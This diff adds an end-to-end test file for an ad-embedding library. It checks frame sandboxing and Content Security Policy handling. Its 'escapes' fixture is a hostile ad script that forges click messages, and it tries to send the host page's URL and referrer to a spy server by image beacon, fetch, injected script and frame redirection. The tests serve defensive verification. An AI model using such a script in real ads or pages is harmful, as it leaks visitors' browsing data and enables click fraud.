@@ -1,0 +1,166 @@
+import { beforeAll, describe, expect, it } from '@jest/globals';
+import type { Server } from 'node:http';
+import { type AdPage, type AdPages, inAd, listen, startAdPages, urlOf } from '../support/ad-page';
+import { send } from '../support/app';
+import { aPng } from '../support/campaigns';
+import { aDocument, anMp4 } from '../support/contents';
+
+let pages: AdPages;
+/** Where a document wants to tell something. */
+let spy: Server;
+const visits: string[] = [];
+
+/** What a document may try. */
+const escapes = (url: string) => `
+  setInterval(() => { focus(); parent.postMessage({ type: 'adgate:click' }, '*'); }, 20);
+  const told = [document.baseURI, document.referrer, location.href].join(' ');
+  new Image().src = '${url}/image?' + told;
+  fetch('${url}/fetch?' + told).catch(() => {});
+  const script = document.createElement('script');
+  script.src = '${url}/script';
+  document.head.append(script);
+  document.body.dataset.told = told;
+  document.getElementById('go').onclick = (event) => {
+    event.stopPropagation();
+    location = '${url}/frame';
+  };`;
+
+beforeAll(async () => {
+  pages = await startAdPages();
+  spy = await listen((req, res) => {
+    visits.push(String(req.url));
+    res.setHeader('Content-Type', 'text/html').end('<p id="elsewhere">Elsewhere');
+  });
+  const body = `<style>* { margin: 0 } b { display: block; height: 30px }</style><b>Buy</b><b id="go">Go</b><script>${escapes(urlOf(spy))}</script>`;
+  const head = '<meta name="referrer" content="unsafe-url">';
+  await pages.createAd(aDocument(body, head), { type: 'html', scope: '468x60' });
+  await pages.createAd(aDocument('<b id="offer">Offer</b>'), { type: 'html', scope: '728x90' });
+  await pages.createAd(aPng('300x250'), { type: 'image' });
+  await pages.createAd(anMp4('1920x1080'), { type: 'video', scope: '1920x1080' });
+}, 60_000);
+
+describe('a hostile document', () => {
+  const onPage = [10, 20] as const;
+  const onBuy = [10, 110] as const;
+  const onGo = [10, 135] as const;
+
+  /** Steps into no frame: what looks into one by the browser's debugger passes there for the visitor. */
+  async function openHostile(): Promise<AdPage & { readonly windows: readonly string[] }> {
+    const [id = ''] = await pages.createPlacements('468x60');
+    const style = '<style>* { margin: 0 } h1 { height: 100px }</style>';
+    const path = `/secret-${visits.length}-${id}?visitor=7`;
+    const windows: string[] = [];
+    const opened = await pages.open(`${style}<h1>News</h1>${await pages.embedCode(id)}`, { path });
+    pages.context.on('page', (popup) => windows.push(popup.url()));
+    await opened.event('filled');
+    await opened.page.waitForTimeout(300);
+    return { ...opened, windows };
+  }
+
+  it('opens no window by itself, nor by a click that the page was meant with', async () => {
+    const { page, windows, events } = await openHostile();
+    await page.mouse.click(...onPage);
+    await page.waitForTimeout(500);
+    expect(windows).toEqual([]);
+    expect(events()).not.toContain('click ');
+  });
+
+  it('opens one window by a click in it', async () => {
+    const { page, event, events } = await openHostile();
+    await page.mouse.click(...onBuy);
+    await event('click');
+    await page.waitForTimeout(500);
+    expect(events().filter((told) => told === 'click ')).toHaveLength(1);
+  });
+
+  it('loads nothing and learns nothing of the page', async () => {
+    const { page } = await openHostile();
+    expect(visits).toEqual([]);
+    const frame = page.frameLocator('[data-adgate] iframe');
+    const told = await frame.locator('body').getAttribute('data-told');
+    expect(told).toMatch(/^data:/);
+    expect(told).not.toContain('127.0.0.1:');
+    expect(told).not.toContain('secret');
+  });
+
+  it('goes when it leads its frame elsewhere', async () => {
+    const { page, event } = await openHostile();
+    await page.mouse.click(...onGo);
+    expect(await event('error')).toMatchObject({ reason: 'left' });
+    expect(await page.evaluate(inAd('iframe'))).toBeNull();
+    expect(visits).toEqual(['/frame']);
+  });
+});
+
+describe('a page with a strict policy', () => {
+  const nonce = 'r4nd0m';
+  const policy = (...more: readonly string[]) => ({
+    'Content-Security-Policy': [
+      "default-src 'none'",
+      `script-src 'nonce-${nonce}' 'strict-dynamic'`,
+      `connect-src ${pages.app.url}`,
+      "base-uri 'none'",
+      "require-trusted-types-for 'script'",
+      'trusted-types adgate',
+      ...more,
+    ].join('; '),
+  });
+  const page = (id: string, size = '300x250') =>
+    `<div id="box" data-adgate="${id}" data-size="${size}"><i>House</i></div><script async nonce="${nonce}" src="${pages.app.url}/tag/v1.js"></script>`;
+
+  it('has its image, with no more than a nonce and the server in connect-src', async () => {
+    const [id = ''] = await pages.createPlacements('300x250');
+    const opened = await pages.open(page(id), { headers: policy() });
+    await opened.event('view');
+    expect(await opened.page.evaluate(`${inAd('canvas')}.width`)).toBe(300);
+    expect(await opened.page.locator('#box').boundingBox()).toMatchObject({ height: 250 });
+  });
+
+  it('has its image as an image where blob: is allowed', async () => {
+    const [id = ''] = await pages.createPlacements('300x250');
+    const opened = await pages.open(page(id), { headers: policy('img-src blob:') });
+    await opened.event('filled');
+    expect(await opened.page.evaluate(`${inAd('img')}.alt`)).toBe('Ad');
+  });
+
+  it('keeps its own content, and nothing counts, where it allows no frame', async () => {
+    const [id = ''] = await pages.createPlacements('728x90');
+    const opened = await pages.open(page(id, '728x90'), { headers: policy() });
+    expect(await opened.event('error')).toMatchObject({ reason: 'blocked' });
+    await opened.page.locator('#box i').waitFor();
+    await opened.page.waitForTimeout(1500);
+    expect(opened.events()).toEqual(['error box']);
+    expect(opened.requests('/view')).toEqual([]);
+  });
+
+  it('has documents whose scripts its policy stops, and their clicks are taken above them', async () => {
+    const [id = ''] = await pages.createPlacements('728x90');
+    const opened = await pages.open(page(id, '728x90'), { headers: policy('frame-src data:') });
+    const { caseId } = await opened.event('filled');
+    const [landing] = await Promise.all([
+      pages.context.waitForEvent('page'),
+      opened.page.locator('#box').click(),
+    ]);
+    await landing.waitForURL(/\/landing/);
+    expect(new URL(landing.url()).searchParams.get('cid')).toBe(caseId);
+  });
+
+  it('has the pinned file by its integrity alone', async () => {
+    const { core } = (await send(`${pages.app.url}/tag/v1.json`)).body;
+    const [id = ''] = await pages.createPlacements('300x250');
+    const headers = {
+      'Content-Security-Policy': `default-src 'none'; script-src '${core.integrity}'; connect-src ${pages.app.url}; img-src blob:`,
+    };
+    const script = `<script async src="${pages.app.url}/tag/${core.file}" integrity="${core.integrity}" crossorigin="anonymous"></script>`;
+    const body = `<div id="box" data-adgate="${id}"></div>${script}`;
+    await (await pages.open(body, { headers })).event('filled');
+  });
+});
+
+it('counts no video that the page’s policy does not play', async () => {
+  const headers = { 'Content-Security-Policy': "media-src 'none'" };
+  const body = `<div id="box" data-adgate="640x360"></div>${pages.tag}`;
+  const { event, requests } = await pages.open(body, { headers });
+  expect(await event('error')).toMatchObject({ reason: 'blocked' });
+  expect(requests('/view')).toEqual([]);
+});
